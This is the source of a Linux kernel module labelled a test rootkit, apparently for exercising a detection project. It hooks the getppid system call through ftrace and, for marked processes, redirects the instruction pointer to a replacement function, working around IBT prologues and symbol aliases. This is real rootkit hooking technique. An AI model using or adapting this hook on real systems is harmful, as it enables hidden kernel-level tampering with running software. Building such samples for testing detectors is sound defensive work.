// SPDX-License-Identifier: GPL-2.0
/* Test rootkit: an ftrace-based syscall hook, the technique of the modern
 * kits. An ftrace_ops with IPMODIFY filtered on __x64_sys_getppid whose
 * callback, for marked processes, points regs->ip at this module's
 * replacement. rmmod unregisters the ops. */
#include <linux/ftrace.h>
#include <linux/module.h>
#include <linux/string.h>

#include "rk_common.h"
#include "rk_marker.h"

#define RK_TARGET "__x64_sys_getppid"

static void notrace rk_callback(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
				struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && rk_marked())
		instruction_pointer_set(regs, (unsigned long)rk_getppid);
}

static struct ftrace_ops rk_ops = {
	.func = rk_callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int __init rk_ftrace_init(void)
{
	unsigned long ip = rk_lookup_name(RK_TARGET);
	int err;

	if (!ip)
		return -ENOENT;
	if (!memcmp((void *)ip, "\xf3\x0f\x1e\xfa", 4)) /* endbr64 (IBT): the ftrace site follows */
		ip += 4;
	/* By address: ftrace lists the site under another alias (__do_sys_getppid). */
	err = ftrace_set_filter_ip(&rk_ops, ip, 0, 0);
	if (err)
		return err;
	err = register_ftrace_function(&rk_ops);
	if (err)
		return err;
	pr_info("rk_ftrace: %s hooked\n", RK_TARGET);
	return 0;
}

static void __exit rk_ftrace_exit(void)
{
	unregister_ftrace_function(&rk_ops);
}

module_init(rk_ftrace_init);
module_exit(rk_ftrace_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("shadowvol test rootkit: ftrace hook of getppid");
